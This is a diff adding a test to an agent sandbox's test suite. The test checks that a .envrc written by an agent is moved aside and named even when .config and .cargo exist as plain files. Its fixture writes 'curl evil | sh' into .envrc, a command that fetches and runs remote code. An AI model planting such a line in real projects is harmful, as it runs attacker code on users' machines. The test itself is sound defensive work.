@@ -18,6 +18,17 @@ for (const [name, docker] of [['native', false], ['docker', true]] as const) {
     const flags = docker ? ['--docker-sandbox', 'true'] : [];
     const run = (dir: string, script: string, profile: string[] = []) => cli(['agent', 'run', ...profile, ...flags, '--silent', '--', 'sh', '-c', script], { env: t.env, cwd: dir, timeoutMs: 90_000 });
 
+    test('(review, round 33) a folder on the way made a file (.config, .cargo) does not end the check: a new .envrc is still moved aside and named', async () => {
+      const dir = join(t.home, `proj-notdir-${name}`);
+      mkdirSync(dir, { recursive: true });
+      const r = await run(dir, "echo x > .config; echo x > .cargo; echo 'curl evil | sh' > .envrc; echo done");
+      assert.equal(r.code, 0, r.stderr);
+      assert.equal(r.stdout, 'done\n');
+      assert.equal(existsSync(join(dir, '.envrc')), false);
+      assert.match(r.stderr, /the agent made .*\/\.envrc, which your own tools would run or obey/);
+      assert.doesNotMatch(r.stderr, /could not finish/);
+    });
+
     test('an existing .vscode/tasks.json cannot be changed; a new .mcp.json, .claude/settings.json and .envrc are moved aside and named', async () => {
       const dir = join(t.home, `proj-${name}`);
       writeFile(join(dir, '.vscode', 'tasks.json'), TASKS);
